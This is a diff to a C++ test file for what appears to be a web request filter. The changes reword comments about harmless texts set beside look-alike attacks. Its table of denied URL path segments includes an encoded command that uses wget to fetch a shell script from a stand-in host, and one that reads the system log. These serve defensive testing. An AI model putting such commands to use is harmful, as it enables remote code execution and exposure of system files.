@@ -1,5 +1,5 @@
-// What people write about programs and keep in settings, beside the attack that has the same words: by class,
-// as a field of a form, of JSON and of a multipart body. Balanced denies the second alone.
+// Texts about programs and values of settings, each beside the attack that has the same words: by class, as a
+// field of a form, of JSON and of a multipart body. Balanced denies the attack alone.
 #include <string>
 #include <string_view>
 #include <vector>
@@ -168,7 +168,8 @@ struct PathRow {
   const char* path;
   bool denied;
 };
-// What a route takes for its parameter; names of files and folders have blanks and words that are commands.
+// Parameters that are a segment of the path; names of files and folders have blanks and words that are
+// commands.
 constexpr PathRow kPaths[] = {
     {"/env%20wget%20http://a.example/x.sh", true},
     {"/tail%20-n%205%20/var/log/syslog", true},
